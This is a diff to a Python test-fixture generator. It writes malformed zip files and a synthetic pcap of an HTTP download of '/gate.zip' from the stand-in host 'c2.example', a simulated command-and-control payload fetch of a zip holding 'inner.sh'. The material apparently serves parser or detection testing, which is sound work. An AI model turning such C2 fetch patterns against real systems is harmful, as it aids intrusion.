@@ -81,3 +81,29 @@ good = zipped([("a", TEXT), ("b", TEXT[::-1])])
 write("cut.zip", good[: len(good) // 2])
 write("many.zip", zipped([(f"m{i}", bytes([i & 255, i >> 8]) * 40) for i in range(2500)]))
 write("empty", b"")
+
+
+def tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
+    """An Ethernet frame; checksums are left out, as captures of offloading cards do."""
+    segment = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0) + data
+    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, src, dst)
+    return bytes(12) + b"\x08\0" + ip + segment
+
+
+def capture(frames):
+    out = struct.pack("<IHHIIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1)
+    for i, f in enumerate(frames):
+        out += struct.pack("<IIII", 1600000000 + i, 0, len(f), len(f)) + f
+    return out
+
+
+A, B = bytes([192, 0, 2, 10]), bytes([203, 0, 113, 9])
+ask = b"GET /gate.zip HTTP/1.1\r\nHost: c2.example\r\n\r\n"
+body = zipped([("inner.sh", TEXT)])
+answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+frames = [tcp(A, B, 4000, 80, 1, 0, 2), tcp(B, A, 80, 4000, 1, 2, 0x12), tcp(A, B, 4000, 80, 2, 2, 0x18, ask)]
+for i in range(0, len(answer), 700):
+    frames.append(tcp(B, A, 80, 4000, 2 + i, 2 + len(ask), 0x18, answer[i:i + 700]))
+frames.append(tcp(B, A, 80, 4000, 2 + len(answer), 2 + len(ask), 0x11))
+write("web.pcap", capture(frames))
+write("web.body", body)
